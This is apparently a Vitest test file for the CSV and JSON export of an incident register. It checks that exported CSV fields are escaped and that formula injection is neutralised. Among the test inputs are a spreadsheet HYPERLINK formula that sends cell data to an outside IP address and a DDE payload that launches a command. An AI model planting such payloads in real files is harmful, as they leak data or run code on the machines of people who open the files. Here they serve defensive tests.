import { describe, expect, it } from "vitest";
import { csvField, type RegisterLine, registerCsv, registerJson } from "./export-register.ts";

const LINE: RegisterLine = {
  kind: "incident",
  id: "incident-1",
  reference: "2026-0001",
  state: "Clos",
  occurred: Date.UTC(2026, 10, 15, 1) * 1000,
  found: null,
  approved: null,
  filed: null,
  systems: ["PACS"],
  duties: [],
  dutyFiles: ["Violation : Notifié"],
  verdict: "",
  summary: "Panne",
  declaredTo: "",
  filingReference: "",
  by: "",
  reason: "",
  exercise: false,
  entry: 12,
};

describe("a field of CSV", () => {
  it.each([
    { text: "Panne", field: "Panne" },
    { text: "a,b", field: '"a,b"' },
    { text: 'dit "non"', field: '"dit ""non"""' },
    { text: "ligne 1\r\nligne 2", field: "ligne 1 ligne 2" },
    { text: "leurre\r=HYPERLINK(1)", field: "leurre =HYPERLINK(1)" },
    { text: "a;b", field: '"a;b"' },
    { text: "", field: "" },
  ])("$text is written $field", ({ text, field }) => expect(csvField(text)).toBe(field));

  it.each([
    "=1+1",
    '=HYPERLINK("http://192.0.2.1/?"&A1)',
    "+1",
    "-2+3",
    "@SUM(A1)",
    " =1",
    "\t=1",
    "\r=1",
    "\n=cmd|'/c calc'!A0",
    "\u200b=1",
    "\u00a0=1",
    "\u202e=1",
    "\uff1d1+1",
    "\uff20SUM(A1)",
    "|cmd",
    "%0A=1",
  ])("keeps the formula %j as text", (text) => expect(csvField(text)).toMatch(/^"'/));
});

it("CSV has a line for each header and record, ends them with CRLF, and begins with a mark when asked", () => {
  const csv = [...registerCsv([LINE, { ...LINE, summary: "=1" }])].join("");
  const lines = csv.split("\r\n");
  expect(lines).toHaveLength(4);
  expect(lines[0]).toMatch(/^Nature,Référence,État,Début estimé,Constat,Validation,Dépôt,/);
  expect(lines[1]).toBe(
    "Incident,2026-0001,Clos,2026-11-15T01:00:00.000Z,,,,PACS,,,Panne,,,,,non,12,Violation : Notifié",
  );
  expect(lines[2]).toContain(`"'=1"`);
  expect([...registerCsv([LINE], { bom: true })].join("").startsWith("\uFEFFNature")).toBe(true);
});

it("JSON gives instants as RFC 3339 and null for what is not known", () => {
  const { lines } = JSON.parse([...registerJson([LINE])].join(""));
  expect(lines[0]).toMatchObject({ occurred: "2026-11-15T01:00:00.000Z", found: null, entry: 12 });
});

it.each([0, 1, 3])("the JSON of %d lines is whole", (count) => {
  const lines = Array.from({ length: count }, (_, entry) => ({ ...LINE, entry }));
  const told = JSON.parse([...registerJson(lines)].join("")) as { lines: { entry: number }[] };
  expect(told.lines.map(({ entry }) => entry)).toEqual(lines.map(({ entry }) => entry));
});
